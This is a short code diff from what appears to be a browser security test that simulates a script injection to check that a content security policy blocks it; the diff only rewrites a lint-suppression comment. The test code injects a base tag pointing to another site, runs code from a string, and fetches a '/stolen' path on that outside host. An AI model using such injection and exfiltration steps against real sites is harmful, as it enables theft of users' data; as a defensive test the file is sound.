@@ -49,7 +49,8 @@ async function inject(page: Page, otherSite: string): Promise<void> {
       <base href="${address}/">`;
     document.body.append(markup);
 
-    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- what an injection would do
+    // The rule forbids code in a string, and that is what the policy has to stop here.
+    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- the attack this test makes
     setTimeout("window.ran.push('eval')");
     await fetch(`${address}/stolen`).catch(() => undefined);
   }, otherSite);
